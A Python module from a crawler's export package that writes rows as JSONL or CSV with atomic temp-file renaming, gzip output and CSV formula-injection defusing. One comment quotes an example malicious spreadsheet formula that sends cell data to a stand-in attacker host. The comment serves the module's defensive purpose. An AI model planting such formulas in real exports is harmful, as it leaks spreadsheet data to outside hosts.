"""Write exported rows as JSONL or CSV, to a file or stdout; shared atomic-file helper.

A file is written under a temporary name beside its target and renamed over it only when
the export completes: an export stopped by a corrupt line must not leave a truncated file
that looks like a finished one. A file named ``*.gz`` is written gzipped.
"""

from __future__ import annotations

import csv
import gzip
import io
import os
import sys
import tempfile
from collections.abc import Iterable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import IO, Any, cast

import msgspec

from crawler.export.columns import Column, Shape, layout
from crawler.export.filters import Row
from crawler.filemodes import cap_to_shared, is_stream, make_dirs
from crawler.sinks import json_safe

#: A text cell starting with one of these is taken by spreadsheets as a formula (``=``,
#: ``+``, ``-``, ``@``) or has its leading tab or CR dropped before one: a crawled title
#: ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would run on opening. OWASP's "CSV
#: Injection" advice: a leading single quote, which spreadsheets show as text.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@contextmanager
def atomic_path(path: Path) -> Iterator[Path]:
    """A new file beside ``path``, renamed over it only if the block succeeds, readable by
    all and writable by its owner (:data:`~crawler.filemodes.SHARED_FILE`, less the umask);
    a folder ``path`` names that does not exist yet is made (as ``report`` makes its own).
    Its name is random and it is created here, never opened through what is there: under a
    predictable name (``.out.csv.<pid>.part``) a link planted in a shared directory had the
    export write through it, into the file it named. A device or pipe (:func:`is_stream`:
    ``-o /dev/null``, a FIFO) is written through instead: it has no "beside" to rename from,
    and renaming over it replaced the device with a file."""
    if is_stream(path):
        yield path
        return
    make_dirs(path.parent)
    fd, name = tempfile.mkstemp(prefix=f".{path.name}.", suffix=".part", dir=path.parent)
    os.close(fd)
    temporary = Path(name)
    try:
        yield temporary
        cap_to_shared(temporary)  # mkstemp's 0600 otherwise: a web server could not read it
        os.replace(temporary, path)
    finally:
        temporary.unlink(missing_ok=True)


def write_jsonl(rows: Iterable[Row], path: Path | None, *, shape: Shape = "records") -> int:
    """Rows as JSON lines, nested objects kept; ``None`` writes to stdout. Returns the count.

    ``shape`` is accepted for a signature shared with the flat writers; JSONL needs no layout.
    """
    encoder = msgspec.json.Encoder()
    count = 0
    with _binary_output(path) as handle:
        for row in rows:
            handle.write(json_safe(encoder.encode(row)) + b"\n")
            count += 1
    return count


def write_csv(rows: Iterable[Row], path: Path | None, *, shape: Shape = "records",
              raw: bool = False) -> int:
    """Rows as UTF-8 CSV with a header row; ``None`` writes to stdout. Returns the count.

    Lists are JSON arrays (``["Ann Lee", "Bo Chen"]``), nulls are empty cells, and story
    variants are JSON text.
    A text cell a spreadsheet would run as a formula gets a leading ``'``
    (:data:`FORMULA_STARTS`) unless ``raw``: for tools that read the CSV as data.
    """
    columns, flatten = layout(shape)
    count = 0
    with _text_output(path) as handle:
        writer = csv.writer(handle)
        writer.writerow([column.name for column in columns])
        for row in rows:
            flat = flatten(row)
            cells = [_cell(column, flat[column.name]) for column in columns]
            writer.writerow(cells if raw else [_defused(cell) for cell in cells])
            count += 1
    return count


def _defused(cell: Any) -> Any:
    """``cell`` with a leading ``'`` if it is text a spreadsheet would read as a formula."""
    if isinstance(cell, str) and cell.startswith(FORMULA_STARTS):
        return "'" + cell
    return cell


def _cell(column: Column, value: Any) -> Any:
    if value is None:
        return None
    if column.kind in ("list", "variants"):
        # A list as JSON text, as variants are: a value holding the old separator "; " (an
        # author "Lee; Ann", a tag) could not be split back; json.loads gives the list again.
        return msgspec.json.encode(value).decode()
    return value


@contextmanager
def _text_output(path: Path | None) -> Iterator[IO[str]]:
    with _binary_output(path) as binary:
        # newline="": the csv module writes its own line endings (RFC 4180 CRLF).
        text = io.TextIOWrapper(binary, encoding="utf-8", newline="")
        try:
            yield text
        finally:
            text.flush()
            text.detach()  # otherwise closing the wrapper would close stdout too


@contextmanager
def _binary_output(path: Path | None) -> Iterator[IO[bytes]]:
    if path is None:
        yield sys.stdout.buffer
        sys.stdout.buffer.flush()
        return
    with atomic_path(path) as temporary, temporary.open("wb") as handle:
        if not path.name.lower().endswith(".gz"):
            yield handle
            return
        # records.jsonl.gz: gzipped as its name says (mtime 0: the same rows, the same bytes).
        # The header names the content as gzip(1) would, records.jsonl; left to GzipFile it
        # named the temporary file, with its pid, so no two exports were the same bytes.
        with gzip.GzipFile(filename=path.name, fileobj=handle, mode="wb", mtime=0) as packed:
            yield cast("IO[bytes]", packed)  # a binary file in all but typeshed's name
